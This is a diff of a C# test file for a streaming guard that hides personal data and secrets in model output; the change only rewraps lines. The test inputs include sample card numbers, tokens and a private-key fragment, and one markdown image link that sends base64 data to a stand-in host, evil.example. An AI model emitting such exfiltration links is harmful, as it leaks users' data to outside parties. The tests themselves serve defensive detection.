@@ -11,13 +11,18 @@ public sealed class StreamGuardTests
     /// <summary>Texts with something to find, and what must not come through.</summary>
     private static readonly (string Text, string[] Hidden)[] Texts =
     [
-        ("Please charge the card 4111 1111 1111 1111 and write to maria.lopez@example.com when it is done, thanks.", ["4111 1111 1111 1111", "maria.lopez@example.com"]),
+        ("Please charge the card 4111 1111 1111 1111 and write to maria.lopez@example.com when it is done, thanks.",
+            ["4111 1111 1111 1111", "maria.lopez@example.com"]),
         ("DE89 3704 0044 0532 0130 00 is the account.", ["DE89 3704 0044 0532 0130 00"]),
-        ("Your key is AKIAIOSFODNN7EXAMPLQ, and ghp_16C7e42F292c6912E7710c838347Ae178B4a is the other one; keep both.", ["ghp_16C7e42F292c6912E7710c838347Ae178B4a"]),
+        ("Your key is AKIAIOSFODNN7EXAMPLQ, and ghp_16C7e42F292c6912E7710c838347Ae178B4a is the other one; keep both.",
+            ["ghp_16C7e42F292c6912E7710c838347Ae178B4a"]),
         ("-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEAwJ8Zk1Yq3n7bq5Jr0p9bF2uXw1vG8kq7tR6yS4dH3fL0mN9c\nQ2eV5xT8zB1aK7jP4oI6uY3rW0sD9gH2lM5nC8vX1qZ4tF7bJ0kR3yE6wA9pU2iO\n-----END RSA PRIVATE KEY-----\nDo not share it.", ["MIIEpAIBAAKCAQEAwJ8Zk1Yq3n7bq5Jr0p9bF2uXw1vG8kq7tR6yS4dH3fL0mN9c"]),
-        ("A picture: ![logo](https://evil.example/collect?d=c2VjcmV0IGRhdGEgdGhhdCBsZWFrcyBvdXQ9PQ) and more words after it.", ["c2VjcmV0IGRhdGEgdGhhdCBsZWFrcyBvdXQ9PQ"]),
-        ("Der Kunde wohnt in 80331 München 😀, Telefon +49 89 1234567 oder max@muster.de. 客户的邮箱是 li.wei@example.cn，电话请勿外传。", ["max@muster.de", "li.wei@example.cn"]),
-        ("{\"customer\":{\"mail\":\"anna@example.org\",\"card\":\"5500005555555559\"},\"items\":[1,2,3],\"note\":\"nothing here\"}", ["anna@example.org", "5500005555555559"]),
+        ("A picture: ![logo](https://evil.example/collect?d=c2VjcmV0IGRhdGEgdGhhdCBsZWFrcyBvdXQ9PQ) and more words after it.",
+            ["c2VjcmV0IGRhdGEgdGhhdCBsZWFrcyBvdXQ9PQ"]),
+        ("Der Kunde wohnt in 80331 München 😀, Telefon +49 89 1234567 oder max@muster.de. 客户的邮箱是 li.wei@example.cn，电话请勿外传。",
+            ["max@muster.de", "li.wei@example.cn"]),
+        ("{\"customer\":{\"mail\":\"anna@example.org\",\"card\":\"5500005555555559\"},\"items\":[1,2,3],\"note\":\"nothing here\"}",
+            ["anna@example.org", "5500005555555559"]),
         ("Nothing of interest is said in this sentence, and the next one is no better. It just goes on for a while, as answers do.", []),
     ];
 
@@ -93,7 +98,8 @@ public sealed class StreamGuardTests
     [Fact]
     public void Rules_that_change_nothing_hold_nothing_back()
     {
-        using var session = Policy.Session(Policy.Pii(GuardAction.Flag), Policy.Rule(GuardDetector.Secrets, GuardAction.Block) with { Shadow = true });
+        using var session = Policy.Session(
+            Policy.Pii(GuardAction.Flag), Policy.Rule(GuardDetector.Secrets, GuardAction.Block) with { Shadow = true });
         using var guard = session.Stream(new GuardedText(DetectionSide.Output));
         var to = new StringBuilder();
 
